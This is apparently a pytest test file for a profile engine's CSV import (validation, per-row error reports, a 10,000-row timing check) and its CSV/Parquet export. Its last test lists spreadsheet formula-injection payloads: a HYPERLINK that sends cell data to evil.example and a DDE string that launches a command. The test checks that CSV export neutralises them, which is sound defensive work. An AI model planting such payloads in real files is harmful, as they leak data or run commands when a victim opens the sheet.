"""CSV profile import (template, preview, per-row report, scale) and CSV/Parquet export."""

from __future__ import annotations

import csv
import io
import time
from pathlib import Path

import pandas as pd
import pytest

from engine import Workspace
from engine.profiles.service import ProfileFilter
from kith_errors import ValidationError

MESSY = """name;identifier;email;phone_number;channel_id;source;channel_name;plan
Ana;u1;ANA@Example.com;+62 812-3456-7890;;ads;;pro
Bob;u2;bob@nowhere;;;;;free
Cici;;;;w-77;;whatsapp;gold
Dedi;u1;;;;;;
Eka;;;;;;;
Fajar;;;00628555555555;;tv;;
Gita;;gita@example.com;;;;;free
"""


@pytest.fixture
def plans(ws: Workspace) -> Workspace:
    ws.catalog.define_property("plan", "string", enum=["free", "pro"])
    return ws


def test_template_has_the_documented_columns(ws: Workspace) -> None:
    template = pd.read_csv(io.StringIO(ws.transfer.template_csv()))
    assert list(template.columns) == [
        "name",
        "identifier",
        "email",
        "phone_number",
        "channel_id",
        "source",
        "channel_name",
    ]
    report = ws.transfer.import_profiles(ws.transfer.template_csv())
    assert (report.created, report.errors.empty) == (1, True)


def test_preview_reports_each_bad_row_and_writes_nothing(plans: Workspace) -> None:
    preview = plans.transfer.preview_import(MESSY, sep=None)
    assert preview.valid_rows == 2  # Ana and Gita
    assert preview.errors.values.tolist() == [
        [3, "email", "not an email address"],
        [4, "plan", "must be one of ['free', 'pro']"],
        [5, "identities", "user_id u1 appears on an earlier row"],
        [6, "identities", "needs an identifier, email, phone_number or channel_id"],
        [7, "source", "must be one of added_by_admin, ads, organic, broadcast, import, api"],
    ]
    assert preview.sample["name"].tolist() == ["Ana", "Gita"]
    assert plans.db.scalar("SELECT count(*) FROM profiles") == 0
    assert plans.db.scalar("SELECT count(*) FROM counters WHERE name = 'profiles'") == 0


def test_import_lands_good_rows_and_skips_bad_ones(plans: Workspace) -> None:
    report = plans.transfer.import_profiles(MESSY)  # separator detected: ';'
    assert (report.created, report.updated) == (2, 0)
    assert report.errors["row"].tolist() == [3, 4, 5, 6, 7]
    ana = plans.profiles.get(plans.profiles.find("user_id", "u1"))
    assert (ana.name, ana.email, ana.phone, ana.source) == (
        "Ana",
        "ana@example.com",
        "+6281234567890",
        "ads",
    )
    assert ana.properties == {"plan": "pro"}
    gita = plans.profiles.get(plans.profiles.find("email", "gita@example.com"))
    assert gita.source == "import"


def test_reimport_updates_matching_profiles(plans: Workspace) -> None:
    plans.transfer.import_profiles(MESSY)
    ana = plans.profiles.find("user_id", "u1")
    gita = plans.profiles.find("email", "gita@example.com")
    again = "email,name,plan,channel_id,channel_name\nana@example.com,,free,ig-1,instagram\n"
    again += "gita@example.com,Gita S,,,\nnew@example.com,New,,,\n"
    report = plans.transfer.import_profiles(again)
    assert (report.created, report.updated) == (1, 2)
    assert plans.profiles.get(ana).name == "Ana"  # empty cells keep what is stored
    assert plans.profiles.get(ana).properties == {"plan": "free"}
    assert plans.profiles.find("instagram", "ig-1") == ana
    assert plans.profiles.get(gita).name == "Gita S"


def test_rows_spanning_two_profiles_are_refused(ws: Workspace) -> None:
    a = ws.profiles.create({"email": "a@example.com"}).id
    b = ws.profiles.create({"user_id": "b"}).id
    report = ws.transfer.import_profiles("identifier,email\nb,a@example.com\n")
    assert report.errors["message"].tolist() == [
        f"identities belong to different profiles: {a}, {b}"
    ]
    assert report.created == report.updated == 0


def test_file_level_errors(ws: Workspace, tmp_path: Path) -> None:
    with pytest.raises(ValidationError, match=r"unknown column.*shoe"):
        ws.transfer.preview_import("email,shoe\na@example.com,41\n")
    with pytest.raises(ValidationError, match="needs an identity column"):
        ws.transfer.preview_import("name,city\nAna,Bandung\n")
    with pytest.raises(ValidationError, match="empty"):
        ws.transfer.import_profiles("")
    with pytest.raises(ValidationError, match="cannot read"):
        ws.transfer.import_profiles(tmp_path / "missing.csv")
    with pytest.raises(ValidationError, match="not UTF-8"):
        ws.transfer.import_profiles(b"email\n\xff\xfe@x.com\n")


def test_ten_thousand_rows_import_in_seconds(ws: Workspace, tmp_path: Path) -> None:
    n = 10_000
    frame = pd.DataFrame(
        {
            "name": [f"Person {i}" for i in range(n)],
            "identifier": [f"user-{i}" for i in range(n)],
            "email": [f"p{i}@example.com" if i % 100 else "broken" for i in range(n)],
            "phone_number": [f"+62812{i:08d}" for i in range(n)],
        }
    )
    path = tmp_path / "people.csv"
    frame.to_csv(path, index=False, sep=";")
    started = time.perf_counter()
    report = ws.transfer.import_profiles(path)
    elapsed = time.perf_counter() - started
    assert (report.created, len(report.errors)) == (n - 100, 100)
    assert ws.db.scalar("SELECT count(*) FROM identities") == 3 * (n - 100)
    assert elapsed < 10, f"10k rows took {elapsed:.1f}s"


@pytest.mark.parametrize("fmt", ["csv", "parquet"])
def test_export_round_trip(plans: Workspace, tmp_path: Path, fmt: str) -> None:
    plans.transfer.import_profiles(MESSY)
    plans.profiles.create({"user_id": "z"}, {"name": "Zed", "country": "ID"})
    data = plans.transfer.export_profiles(ProfileFilter(text="a"), fmt=fmt)
    frame = pd.read_csv(io.BytesIO(data)) if fmt == "csv" else pd.read_parquet(io.BytesIO(data))
    assert list(frame.columns[:5]) == ["id", "name", "identifier", "email", "phone_number"]
    assert frame["name"].tolist() == ["Ana", "Gita"]  # the filter applies
    assert frame["plan"].tolist() == ["pro", "free"]
    # The export imports into a fresh workspace as the same people.
    other = Workspace.open(tmp_path / "other.duckdb")
    other.catalog.define_property("plan", "string", enum=["free", "pro"])
    path = tmp_path / "export.csv"
    path.write_bytes(plans.transfer.export_profiles(fmt="csv"))
    report = other.transfer.import_profiles(path)
    assert (report.created, report.errors.empty) == (3, True)
    columns = ["name", "identifier", "email", "phone_number", "source", "country", "plan"]
    mine = pd.read_csv(io.BytesIO(plans.transfer.export_profiles()))[columns]
    theirs = pd.read_csv(io.BytesIO(other.transfer.export_profiles()))[columns]
    pd.testing.assert_frame_equal(mine, theirs)
    other.close()
    with pytest.raises(ValidationError, match="'xlsx'"):
        plans.transfer.export_profiles(fmt="xlsx")


FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd|' /C calc'!A0", "@SUM(1)"]


def test_csv_export_neutralises_formulas_and_parquet_keeps_them(
    ws: Workspace, tmp_path: Path
) -> None:
    """Formula-leading text from an import and from tracking traits goes out of a CSV with a
    leading quote (OWASP); Parquet keeps it exact; the CSV imports back as the same text."""
    ws.transfer.import_profiles(
        "name,identifier,city\n" + f'"{FORMULAS[0].replace(chr(34), chr(34) * 2)}",u1,-2+3\n'
    )
    ws.ingest.messages(
        [
            {
                "type": "identify",
                "userId": "u2",
                "traits": {"name": FORMULAS[1], "company": FORMULAS[2]},
            }
        ]
    )
    data = ws.transfer.export_profiles(fmt="csv")
    cells = [cell for row in csv.reader(io.StringIO(data.decode())) for cell in row]
    for value in [*FORMULAS, "-2+3"]:
        assert "'" + value in cells and value not in cells
    exact = pd.read_parquet(io.BytesIO(ws.transfer.export_profiles(fmt="parquet")))
    assert set(FORMULAS[:2]) <= set(exact["name"]) and "-2+3" in set(exact["city"])
    other = Workspace.open(tmp_path / "other.duckdb")
    path = tmp_path / "export.csv"
    path.write_bytes(data)
    assert other.transfer.import_profiles(path).created == 2
    again = pd.read_parquet(io.BytesIO(other.transfer.export_profiles(fmt="parquet")))
    assert set(FORMULAS[:2]) <= set(again["name"])
    other.close()
